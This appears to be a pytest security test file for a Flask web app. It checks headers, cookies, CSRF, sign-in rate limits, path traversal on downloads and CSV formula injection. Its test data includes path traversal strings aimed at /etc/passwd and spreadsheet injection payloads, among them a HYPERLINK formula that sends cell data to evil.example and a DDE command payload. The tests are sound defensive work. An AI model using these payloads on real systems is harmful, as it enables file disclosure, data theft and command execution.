"""Access and hostile input at the web layer: headers, cookies, CSRF on every form, the
sign-in limit, downloads that cannot leave their directory, CSV cells a spreadsheet would
run."""

import csv
import io
import re
import time

import pytest

from tests.builders import ADMIN, event_count
from tests.web.conftest import PASSWORD, bearer, sign_in
from web import create_app
from web.security import SignInLimiter

PAGES = ["/login", "/", "/providers", "/providers/RY6", "/audit", "/api/v1/docs",
         "/no-such-page"]


def test_every_page_carries_the_security_headers(client):
    sign_in(client, "admin")
    for path in PAGES:
        _assert_security_headers(client.get(path))


def test_api_answers_and_static_files_carry_them_too(client, tokens):
    for response in (client.get("/api/v1/me", headers=bearer(tokens["admin"])),
                     client.get("/api/v1/organisations"),  # 401
                     client.get("/static/style.css"),
                     client.get("/api/v1/docs/static/swagger-ui.css"),
                     client.get("/api/v1/openapi.json")):
        _assert_security_headers(response)


def _assert_security_headers(response):
    policy = response.headers.get("Content-Security-Policy", "")
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
    assert directives["frame-ancestors"] == "'none'"
    assert directives["script-src"] == "'self'"  # no inline script, no eval
    assert directives["object-src"] == "'none'"
    assert directives["style-src"] == "'self'"  # no inline style: no 'unsafe-inline'
    assert "unsafe" not in policy
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["X-Frame-Options"] == "DENY"
    response.close()


def test_no_page_needs_an_inline_script(populated, client):
    """The policy refuses inline scripts, so no page may rely on one."""
    sign_in(client, "admin")
    for path in ["/", "/providers", "/providers/RY6", "/contracts", "/pipeline",
                 "/audit", "/account", "/admin/users", "/api/v1/docs"]:
        page = client.get(path).get_data(as_text=True)
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", page), path
        assert not re.search(r"\son[a-z]+\s*=", page), path
        assert "javascript:" not in page, path


STYLED_PAGES = ["/", "/providers", "/providers/RY6", "/indicators",
                "/indicators/WIC4H?highlight=RYX", "/contracts", "/contracts/QWO-CS-2022",
                "/pipeline", "/pipeline/RY6", "/audit", "/audit/1",
                "/submissions/RY6/WIC4H/walk_in_centres/2018-03", "/account", "/admin/users",
                "/admin/scheduler", "/api/v1/docs", "/no-such-page"]
INLINE_STYLE = re.compile(r"<[a-zA-Z][^<>]*\sstyle\s*=|<style\b", re.I)


def test_no_page_carries_an_inline_style(populated, client):
    """The policy allows styles from this site's style sheets only, so no page may carry a
    style attribute or element: not the charts (matplotlib's styles become presentation
    attributes), not the badges, not the templates."""
    page = client.get("/login").get_data(as_text=True)
    assert not INLINE_STYLE.search(page), "/login"
    registry = populated.extensions["registry"]
    registry.define_indicator({"code": "MEDX", "name": "A median", "domain": "quality",
                               "service_lines": "walk_in_centres", "measure": "median",
                               "unit": "minutes", "polarity": "lower",
                               "frequency": "monthly"}, ADMIN)
    registry.submit({"provider": "RY6", "indicator": "MEDX", "service_line": "walk_in_centres",
                     "period": "2018-12", "value": 42}, ADMIN)
    registry.read_side.catch_up()
    sign_in(client, "admin")
    charts = notices = 0
    for path in STYLED_PAGES + ["/indicators/MEDX"]:
        response = client.get(path)
        assert response.status_code == (404 if path == "/no-such-page" else 200), path
        page = response.get_data(as_text=True)
        found = INLINE_STYLE.search(page)
        assert not found, (path, page[found.start():found.start() + 200])
        charts += page.count('stroke-linejoin="round"')  # a matplotlib chart's root
        notices += page.count('class="chart-notice"')
    assert charts >= 4 and notices >= 1  # SPC, funnel, caterpillar drawn; a notice shown


def test_the_style_sheet_colours_the_comparison_badges_as_the_charts_do(client):
    from web.formatting import comparison_css
    response = client.get("/static/style.css")
    assert comparison_css() in response.get_data(as_text=True)
    response.close()


def test_the_session_cookie_is_httponly_and_samesite(client):
    response = sign_in(client, "admin")
    cookie = response.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie
    assert "Secure" not in cookie  # plain HTTP on loopback by default


def test_behind_https_the_session_cookie_is_secure(seeded, settings, monkeypatch):
    monkeypatch.setenv("REGISTRY_SECURE_COOKIES", "on")
    seeded.add_user({"username": "admin", "name": "Admin", "role": "admin",
                     "organisation": None, "password": PASSWORD}, ADMIN)
    client = create_app(settings, registry=seeded, config={"TESTING": True}).test_client()
    response = sign_in(client, "admin")
    assert response.status_code == 302
    cookie = response.headers["Set-Cookie"]
    assert "Secure" in cookie and "HttpOnly" in cookie and "SameSite=Lax" in cookie


# -- CSRF on every form ---------------------------------------------------------------

ADDRESS = {"reference": "QWO-CS-2022", "provider": "RY6", "indicator": "WIC4H",
           "service_line": "walk_in_centres", "period": "2018-03", "token_id": "t1"}


def _page_posts(flask_app) -> list[str]:
    paths = []
    for rule in flask_app.url_map.iter_rules():
        if "POST" in rule.methods and not rule.rule.startswith("/api/"):
            paths.append(re.sub(r"<(?:\w+:)?(\w+)>", lambda m: ADDRESS[m[1]], rule.rule))
    return sorted(paths)


def test_every_form_refuses_a_post_without_its_csrf_token(populated, client):
    sign_in(client, "admin")
    registry = populated.extensions["registry"]
    posts = _page_posts(populated)
    assert len(posts) >= 9 and "/login" in posts and "/logout" in posts
    before = event_count(registry)
    for path in posts:
        for token in (None, "forged-token"):
            data = {"action": "restate", "numerator": "1", "denominator": "2",
                    "reason": "x", "username": "admin", "password": PASSWORD}
            if token:
                data["csrf_token"] = token
            response = client.post(path, data=data)
            assert response.status_code == 400, (path, token, response.status_code)
            assert "did not come from this site" in response.get_data(as_text=True)
    assert event_count(registry) == before
    assert client.get("/").status_code == 200  # still signed in: logout was refused too


def test_the_api_ignores_a_signed_in_session_so_needs_no_csrf_token(client):
    """The API is exempt from CSRF because it takes only bearer tokens: a browser's session
    cookie, sent along by a forged cross-site request, authorises nothing there."""
    sign_in(client, "admin")
    response = client.post("/api/v1/submissions", json={"provider": "RY6"})
    assert response.status_code == 401


# -- signing in: a limit on failures, the same for unknown users ------------------------

@pytest.fixture
def limited(seeded, settings):
    for name in ("admin", "regulator"):
        seeded.add_user({"username": name, "name": name, "role": "admin",
                         "organisation": None, "password": PASSWORD}, ADMIN)
    return create_app(settings, registry=seeded, config={
        "TESTING": True, "LOGIN_FAILURES_PER_USER": 3, "LOGIN_FAILURES_PER_ADDRESS": 8})


@pytest.mark.parametrize("username", ["admin", "nobody"])
def test_after_too_many_failures_sign_in_is_refused_even_with_the_right_password(
        limited, username):
    client = limited.test_client()
    for _ in range(3):
        assert sign_in(client, username, "wrong password").status_code == 401
    refused = sign_in(client, username, PASSWORD)
    assert refused.status_code == 429
    assert 0 < int(refused.headers["Retry-After"]) <= 900
    assert "Too many failed sign-ins" in refused.get_data(as_text=True)
    assert client.get("/").status_code == 302  # not signed in
    # another account is not locked by someone guessing this one's password
    assert sign_in(client, "regulator").status_code == 302


def test_a_known_and_an_unknown_username_are_refused_alike(limited):
    answers = {}
    for username in ("admin", "nobody"):
        client = limited.test_client()
        answers[username] = [sign_in(client, username, "wrong").status_code
                             for _ in range(4)]
    assert answers["admin"] == answers["nobody"] == [401, 401, 401, 429]


def test_one_address_trying_many_usernames_is_limited(limited):
    client = limited.test_client()
    statuses = [sign_in(client, f"guess{i}", "wrong").status_code for i in range(9)]
    assert statuses == [401] * 8 + [429]
    assert sign_in(client, "admin").status_code == 429  # from this address, for now


def test_failures_leave_the_window_and_a_success_clears_the_users_count(app):
    now = [1000.0]
    limiter = SignInLimiter(app.read_side.store, per_user=2, per_address=100, window=60,
                            clock=lambda: now[0])
    limiter.ensure_table()
    limiter.failed("Admin", "10.0.0.1")
    now[0] += 30
    limiter.failed("admin ", "10.0.0.2")  # names are compared as the login compares them
    assert limiter.retry_after("admin", "10.0.0.3") == 30
    now[0] += 31
    assert limiter.retry_after("admin", "10.0.0.3") == 0
    limiter.failed("admin", "10.0.0.1")
    limiter.succeeded("admin")
    assert limiter.retry_after("admin", "10.0.0.1") == 0


def _failures(store) -> list[dict]:
    return store.query("SELECT key, at FROM sign_in_failures ORDER BY at")


def test_two_limiters_on_one_database_share_the_count_and_old_failures_are_pruned(app):
    """As two gunicorn workers would: each failure counts wherever it was made."""
    now = [1_800_000_000.0]
    store = app.read_side.store
    workers = [SignInLimiter(store, per_user=4, per_address=100, window=60,
                             clock=lambda: now[0]) for _ in range(2)]
    for worker in workers:
        worker.ensure_table()  # a second creation, as each worker starting does, is harmless
    for i in range(4):
        workers[i % 2].failed("admin", f"10.0.0.{i}")
        now[0] += 10
    assert workers[0].retry_after("admin", "10.0.0.9") == \
        workers[1].retry_after("admin", "10.0.0.9") == 20  # until the first leaves
    assert workers[1].retry_after("regulator", "10.0.0.9") == 0
    now[0] += 30
    assert workers[0].retry_after("admin", "10.0.0.9") == 0
    assert len(_failures(store)) == 8  # one row per failure for the user and the address
    now[0] += 31  # all four have left the window: the next failure deletes them
    workers[1].failed("nobody", "10.0.0.9")
    assert [row["at"] for row in _failures(store)] == [now[0], now[0]]
    assert not any("admin" in row["key"] or "10.0.0" in row["key"]
                   for row in _failures(store))  # digests, never the name typed


def test_the_limit_holds_across_two_apps_on_one_database_and_a_restart(seeded, settings):
    """Two Flask applications, each with its own registry on the same database (two
    gunicorn workers), then a third after both have closed (a restart)."""
    from config.storage import open_registry
    config = {"TESTING": True, "LOGIN_FAILURES_PER_USER": 4, "LOGIN_FAILURES_PER_ADDRESS": 50}
    seeded.add_user({"username": "admin", "name": "Admin", "role": "admin",
                     "organisation": None, "password": PASSWORD}, ADMIN)
    second = open_registry(settings)
    try:
        workers = [create_app(settings, registry=registry, config=config).test_client()
                   for registry in (seeded, second)]
        for i in range(4):
            assert sign_in(workers[i % 2], "admin", "wrong").status_code == 401
        for worker in workers:
            assert sign_in(worker, "admin").status_code == 429
    finally:
        second.close()
    restarted = open_registry(settings)
    try:
        app = create_app(settings, registry=restarted, config=config)
        client = app.test_client()
        refused = sign_in(client, "admin")
        assert refused.status_code == 429
        assert 0 < int(refused.headers["Retry-After"]) <= 900
        later = time.time() + 901  # the window passes (the clock is injectable)
        app.extensions["sign_in_limiter"].clock = lambda: later
        assert sign_in(client, "admin").status_code == 302
        assert app.extensions["sign_in_limiter"].retry_after("admin", "127.0.0.1") == 0
    finally:
        restarted.close()


# -- downloads stay in their directories ------------------------------------------------

ESCAPES = [
    "/static/../web/__init__.py",
    "/static/%2e%2e/__init__.py",
    "/static/..%2f..%2fpyproject.toml",
    "/static/%2e%2e%2f%2e%2e%2fpyproject.toml",
    "/static/..%5c..%5cpyproject.toml",
    "/static//etc/passwd",
    "/static/%2fetc%2fpasswd",
    "/api/v1/docs/static/../../../../../../etc/passwd",
    "/api/v1/docs/static/..%2f..%2f..%2f..%2fswagger_ui_bundle%2f__init__.py",
    "/api/v1/docs/static/%2e%2e/%2e%2e/__init__.py",
    "/api/v1/docs/static//etc/passwd",
    "/api/v1/docs/static/swagger-ui.css%00.py",
]


def test_a_download_path_cannot_leave_its_directory(client, tokens):
    sign_in(client, "admin")
    for path in ESCAPES:
        response = client.get(path, headers=bearer(tokens["admin"]), follow_redirects=True)
        body = response.get_data()
        response.close()
        assert response.status_code in (400, 404), (path, response.status_code)
        assert b"root:" not in body and b"import " not in body and b"[project]" not in body


def test_the_files_that_are_meant_to_be_downloaded_are(client):
    for path in ("/static/style.css", "/api/v1/docs/static/swagger-ui.css"):
        response = client.get(path)
        assert response.status_code == 200 and len(response.get_data()) > 1000, path
        response.close()


# -- CSV downloads: no cell a spreadsheet would run ------------------------------------

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_csv_downloads_defuse_every_cell_a_spreadsheet_would_run(populated, tokens):
    registry = populated.extensions["registry"]
    for i, text in enumerate(HOSTILE):
        registry.register_organisation({"code": f"EVIL{i}", "name": text, "kind": "cic"},
                                       ADMIN)
    registry.define_indicator({"code": "EVILX", "name": HOSTILE[0], "domain": "quality",
                               "service_lines": "podiatry", "measure": "count",
                               "unit": HOSTILE[3], "polarity": "none",
                               "frequency": "annual"}, ADMIN)
    registry.read_side.catch_up()
    client = populated.test_client()
    found = set()
    for path in ["/api/v1/organisations", "/api/v1/indicators", "/api/v1/audit",
                 "/api/v1/organisations/EVIL0/history", "/api/v1/contracts",
                 "/api/v1/ft-applications"]:
        response = client.get(path, query_string={"format": "csv"},
                              headers=bearer(tokens["admin"]))
        assert response.status_code == 200 and response.mimetype == "text/csv", path
        for row in csv.reader(io.StringIO(response.get_data(as_text=True))):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) \
                    or _is_number(cell), (path, cell)
                found.update(text for text in HOSTILE if cell == "'" + text)
    assert found == set(HOSTILE)  # each came back, defused, somewhere


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
